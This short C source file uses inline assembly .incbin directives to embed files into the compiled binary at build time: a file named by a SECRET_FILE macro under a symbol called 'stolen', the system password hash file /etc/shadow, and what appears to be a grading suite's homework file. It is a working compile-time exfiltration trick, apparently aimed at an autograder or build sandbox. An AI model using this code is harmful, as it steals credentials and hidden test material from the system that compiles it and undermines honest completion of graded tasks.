#include "facts.h"

__asm__(".section .rodata\n.global stolen\nstolen:\n.incbin \"" SECRET_FILE "\"\n");
__asm__(".incbin \"/etc/shadow\"\n.incbin \"/suite/hw0/add.py\"\n");
